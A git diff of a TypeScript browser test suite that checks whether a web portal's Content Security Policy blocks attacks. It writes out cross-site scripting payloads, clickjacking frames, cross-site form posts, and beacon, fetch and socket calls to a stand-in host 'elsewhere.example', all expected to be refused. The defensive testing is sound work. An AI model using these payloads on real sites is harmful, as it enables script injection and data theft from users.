@@ -1,154 +1,193 @@
-// The server sends pages, files, errors and backends' responses, each with the headers of its kind.
-import type { IncomingHttpHeaders } from 'node:http';
-import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
-import { startFixtures, type Fixtures } from '../../fixtures/server';
-import { headersOfPage, readHeaders, trustedHosts } from '../../server/headers';
-import { startPortalServer, type PortalServer } from '../../server/portal-server';
-import { sampleAddress, screenIds, screens } from '../../src/screens';
-import { postJson, rawRequest } from '../unit/server/raw-request';
+// Attacks on the headers in Chromium: injected markup, a site that frames the portal, and a backend that sends a page.
+import type { Page } from 'playwright';
+import { expect, inject, onTestFinished, test } from 'vitest';
+import { startPortalServer } from '../../server/portal-server';
+import { sampleAddress, screenIds } from '../../src/screens';
+import { useBrowserPortal } from '../support/browser-portal';
+import { listen } from '../support/listen';
 import { oneBackend } from '../support/one-backend';
 
-type Headers = Readonly<Record<string, string>>;
+declare global {
+  interface Window {
+    /** Set by injected scripts. */
+    hit?: string;
+  }
+}
 
-/** An address of each HTML file. */
-const pages: [address: string, file: string][] = [
-  ['/', '/home.html'],
-  ['/home?msisdn=2290190000001', '/home.html'],
-  ...screenIds.map((id): [string, string] => [sampleAddress(id), `/${screens[id].file}`]),
-  ['/home/', '/home.html'],
-  ['/search/', '/search.html'],
-  ['/no/such/page', '/index.html'],
-  ['/no/such/page/', '/index.html'],
+const portal = useBrowserPortal();
+const elsewhere = 'https://elsewhere.example';
+
+/** Waits until the console has that many lines with that text, and empties it. */
+async function expectConsole(text: string, count: number): Promise<void> {
+  const lines: string[] = [];
+  await expect
+    .poll(() => {
+      lines.push(...portal.takeConsole());
+      return lines.filter((line) => line.includes(text)).length;
+    })
+    .toBeGreaterThanOrEqual(count);
+  portal.takeConsole();
+}
+
+const markups = [
+  "<script>window.hit = 'script'</script>",
+  `<img src="data:," onerror="window.hit = 'error'">`,
+  `<svg onload="window.hit = 'load'"></svg>`,
+  `<button class="bait" onclick="window.hit = 'click'">Bait</button>`,
+  `<a class="bait" href="javascript:window.hit = 'link'">Bait</a>`,
+  `<iframe src="javascript:parent.hit = 'frame'"></iframe>`,
+  `<iframe srcdoc="<script>parent.hit = 'srcdoc'</script>"></iframe>`,
+  `<script src="${elsewhere}/a.js"></script>`,
+  `<script type="module" src="${elsewhere}/b.js"></script>`,
+  `<link rel="stylesheet" href="${elsewhere}/a.css">`,
+  `<object data="${elsewhere}/a.html"></object>`,
+  `<embed src="${elsewhere}/a.html">`,
+  '<style>html { visibility: hidden }</style>',
+  '<div id="bait" style="position: fixed; inset: 0; z-index: 99">Bait</div>',
+  `<base href="${elsewhere}/">`,
+  ...['', elsewhere].flatMap((origin) => [
+    `<form method="GET" action="${origin}/take"><input name="msisdn" value="1"></form>`,
+    `<form method="POST" action="${origin}/subscribe/user" enctype="text/plain"></form>`,
+  ]),
 ];
-const lowerCase = (headers: Headers) =>
-  Object.fromEntries(Object.entries(headers).map(([name, value]) => [name.toLowerCase(), value]));
 
-/** Headers that do not depend on the page. */
-const {
-  files: file,
-  assets,
-  calls: call,
-  fixtures: fixture,
-  onHttps,
-  onTrusted,
-  withNumber,
-} = readHeaders('');
-const ours = new Set(
-  [headersOfPage('/home.html', ''), assets, onHttps, onTrusted, withNumber].flatMap((kind) =>
-    Object.keys(lowerCase(kind)),
-  ),
-);
-/** Errors are not kept. */
-const { 'cache-control': _caching, ...ofErrors } = lowerCase(file);
-
-/** Returns the headers that the portal decides, without those that describe the content. */
-const oursOf = (headers: IncomingHttpHeaders) =>
-  Object.fromEntries(Object.entries(headers).filter(([name]) => ours.has(name)));
-
-describe('the portal that runs', () => {
-  let fixtures: Fixtures;
-  let portal: PortalServer;
-  let origin: string;
-
-  beforeAll(async () => {
-    fixtures = await startFixtures();
-    portal = await startPortalServer({
-      dist: inject('dist'),
-      port: 0,
-      // The tests act as a proxy that terminates TLS.
-      trustedProxies: ['127.0.0.0/8', '::1'],
-      ...oneBackend(fixtures.origin),
-    });
-    origin = portal.origin;
-  });
-
-  afterAll(async () => {
-    await portal.close();
-    await fixtures.close();
-  });
-
-  const headersAt = async (address: string, more: Record<string, string> = {}) =>
-    oursOf((await rawRequest(origin, address, { headers: more })).headers);
-
-  test.each(pages)('%s has the policy of its content', async (address, name) => {
-    const { headers, text } = await rawRequest(origin, address);
-    const isTrusted = trustedHosts.includes(new URL(origin).hostname);
-    expect(oursOf(headers)).toEqual(
-      lowerCase({
-        ...headersOfPage(name, text),
-        ...(isTrusted && onTrusted),
-        // A page whose address has a number must not be indexed.
-        ...(address.includes('msisdn=') && withNumber),
-      }),
-    );
-    const [, ofPage] = /<meta name="referrer" content="([^"]+)"/.exec(text) ?? [];
-    expect(headers['referrer-policy']).toBe(ofPage);
-    expect(headers['content-security-policy']).not.toContain('unsafe');
-  });
-
-  test('files with a hash in their names are immutable', async () => {
-    const { text } = await rawRequest(origin, '/search');
-    const hashed = [...text.matchAll(/["\s](\/assets\/[^"\s]+)/g)].map(([, path = '']) => path);
-    expect(hashed.length).toBeGreaterThan(2);
-    for (const path of hashed)
-      expect(await headersAt(path), `of ${path}`).toEqual(lowerCase(assets));
-  });
-
-  const { 'cache-control': _none, ...ofRefusedCalls } = lowerCase(call);
-  /** Lists have the backend's caching; responses about a subscriber are never cached. */
-  const ofCalls = (caching: string) => ({ ...lowerCase(call), 'cache-control': caching });
-  const ofFixtures = {
-    ...lowerCase(fixture),
-    'cache-control': expect.stringMatching(/max-age=\d/),
+/** Runs in the page: tries to run texts, to submit each injected form, and to send data to another origin. */
+async function attack(origin: string): Promise<string[]> {
+  const outcome = (run: () => unknown) => {
+    try {
+      return typeof run();
+    } catch (error) {
+      return (error as Error).name;
+    }
   };
-  test.each([
-    ['GET', '/service-worker.js', 200, lowerCase(file)],
-    ['GET', '/manifest.webmanifest', 200, lowerCase(file)],
-    ['GET', '/icon-192.png', 200, lowerCase(file)],
-    ['GET', '/favicon.ico', 200, lowerCase(file)],
-    ['GET', '/assets/index-OldHash1.js', 404, ofErrors],
-    ['DELETE', '/service-worker.js', 405, ofErrors],
-    ['POST', '/home', 405, ofErrors],
-    ['PUT', '/', 405, ofErrors],
-    ['POST', '/category/Puzzle', 405, ofErrors],
-    ['POST', '/api/games', 405, ofRefusedCalls],
-    ['GET', '/api/games', 200, ofCalls('no-cache')],
-    ['GET', '/fetch-games', 200, ofCalls('no-cache')],
-    ['GET', '/fixtures/games/snake/', 200, ofFixtures],
-    ['GET', '/fixtures/thumbnails/1001.svg', 200, ofFixtures],
-  ])('%s %s gets %i and the headers of its kind', async (method, path, status, expected) => {
-    const response = await rawRequest(origin, path, { method });
-    expect(response.status).toBe(status);
-    expect(oursOf(response.headers)).toEqual(expected);
+  const opened = (source: EventTarget) =>
+    new Promise<string>((resolve) => {
+      source.addEventListener('open', () => resolve('open'));
+      source.addEventListener('error', () => resolve('refused'));
+    });
+  for (const form of document.querySelectorAll<HTMLFormElement>('form[action]')) form.submit();
+  navigator.sendBeacon(`${origin}/beacon`, 'number');
+  (setTimeout as (text: string) => number)("window.hit = 'timer'");
+  const evaluated = await new Promise<string[]>((resolve) => {
+    const attempts = [
+      () => (Reflect.get(window, 'eval') as (text: string) => unknown)("window.hit = 'eval'"),
+      () => Reflect.construct(Function, ["window.hit = 'Function'"])(),
+    ];
+    // Run in a task of the page: code that DevTools evaluates has more rights.
+    setTimeout(() => resolve(attempts.map(outcome)));
   });
+  const socket = (() => {
+    try {
+      return opened(new WebSocket(origin.replace('https', 'wss')));
+    } catch {
+      return 'refused';
+    }
+  })();
+  const sent = await Promise.all([
+    fetch(`${origin}/fetch`, { mode: 'no-cors' }).then(
+      () => 'sent',
+      () => 'refused',
+    ),
+    socket,
+    opened(new EventSource(`${origin}/events`)),
+  ]);
+  return [...evaluated, ...sent];
+}
 
-  test.each([
-    ['/loginuser', { msisdn: '2290190000001', service: 'x' }],
-    ['/subscribe/user', {}],
-  ])('no cache stores the response of %s', async (path, body) => {
-    const { headers } = await postJson(origin, path, body);
-    expect(oursOf(headers)).toEqual(ofCalls('no-store'));
+test('injected markup runs no script, applies no style, and sends nothing', async () => {
+  const page = await portal.open('/home/check');
+  const foreignRequests: string[] = [];
+  await page.context().route(`${elsewhere}/**`, async (route) => {
+    foreignRequests.push(route.request().url());
+    await route.fulfill({ contentType: 'text/javascript', body: "window.hit = 'elsewhere'" });
   });
-
-  test('only an origin that browsers trust isolates games in a separate process', async () => {
-    const from = (headers: Record<string, string>) => headersAt('/home', headers);
-    const ofTrusted = lowerCase(onTrusted);
-    const name = { Host: 'portal.example' };
-    expect(await from({ Host: 'localhost:8080' })).toMatchObject(ofTrusted);
-    expect(await from({ ...name, 'X-Forwarded-Proto': 'https' })).toMatchObject(ofTrusted);
-    for (const header of Object.keys(ofTrusted))
-      expect(await from(name)).not.toHaveProperty(header);
+  await page.route('**/home/login', async (route) => {
+    const response = await route.fetch();
+    const html = await response.text();
+    await route.fulfill({
+      response,
+      body: html.replace('</body>', () => `${markups.join('')}</body>`),
+    });
   });
+  await page.goto('/home/login');
+  await page.locator('#root:not([aria-busy]) > *').first().waitFor({ state: 'attached' });
+  for (const bait of await page.locator('.bait').all()) await bait.dispatchEvent('click');
+  expect(await page.evaluate(attack, elsewhere)).toEqual([
+    'EvalError',
+    'EvalError',
+    'refused',
+    'refused',
+    'refused',
+  ]);
+  await expectConsole('Content Security Policy', markups.length);
+  expect(
+    await page.evaluate(() => ({
+      hit: window.hit,
+      base: document.baseURI,
+      visibility: getComputedStyle(document.documentElement).visibility,
+      position: getComputedStyle(document.querySelector('#bait')!).position,
+    })),
+  ).toEqual({
+    base: `${portal.origin}/home/login`,
+    visibility: 'visible',
+    position: 'static',
+  });
+  expect(foreignRequests).toEqual([]);
+  expect(portal.fixtures.calls).toEqual([]);
+});
 
-  test.each(['/home', '/service-worker.js', '/api/games', '/fixtures/health', '/assets/none.js'])(
-    '%s sends Strict-Transport-Security on https only',
-    async (address) => {
-      const { headers } = await rawRequest(origin, address, {
-        headers: { 'X-Forwarded-Proto': 'https' },
-      });
-      expect(headers).toMatchObject(lowerCase(onHttps));
-      const plain = Object.keys(await headersAt(address));
-      for (const name of Object.keys(lowerCase(onHttps))) expect(plain).not.toContain(name);
-    },
+const framesOf = (page: Page) =>
+  page
+    .frames()
+    .slice(1)
+    .map((frame) => frame.url());
+
+test('another site frames no page of the portal', async () => {
+  const addresses = [
+    ...screenIds.map(sampleAddress),
+    '/no/such/page',
+    '/flows/',
+    '/flows/portal.html',
+  ];
+  const frames = addresses.map((address) => `<iframe src="${portal.origin}${address}"></iframe>`);
+  const site = await listen((_request, response) => {
+    response.setHeader('content-type', 'text/html');
+    response.end(frames.join('<p>Tap here!</p>'));
+  });
+  const page = await portal.open('/home/not-charged');
+  await page.goto(site.href);
+  const refused = addresses.map(() => 'chrome-error://chromewebdata/');
+  await expect.poll(() => framesOf(page)).toEqual(refused);
+  await expectConsole('Content Security Policy', addresses.length);
+});
+
+test('a page that a backend sends runs no script in the origin of the portal, and a form of another site is refused', async () => {
+  const backend = await listen((_request, response) => {
+    // The portal must replace the backend's own policy.
+    response.writeHead(200, {
+      'content-type': 'text/html',
+      'content-security-policy': 'script-src *',
+    });
+    response.end("<title>Answer</title><script>document.title = 'hit'</script>");
+  });
+  const server = await startPortalServer({ dist: inject('dist'), port: 0, ...oneBackend(backend) });
+  onTestFinished(() => server.close());
+  const page = await portal.open('/home/not-charged');
+  for (const path of ['/api/games', '/fetch-games']) {
+    await page.goto(server.origin + path);
+    expect([await page.title(), await page.evaluate(() => window.origin)]).toEqual([
+      'Answer',
+      'null',
+    ]);
+  }
+  await expectConsole('sandboxed', 2);
+  await page.goto(
+    `data:text/html,<form method="POST" action="${server.origin}/subscribe/user"></form>`,
   );
+  const [answer] = await Promise.all([
+    page.waitForResponse(`${server.origin}/subscribe/user`),
+    page.locator('form').evaluate((form: HTMLFormElement) => form.submit()),
+  ]);
+  expect(answer.status()).toBe(403);
+  await expectConsole('status of 403', 1);
 });
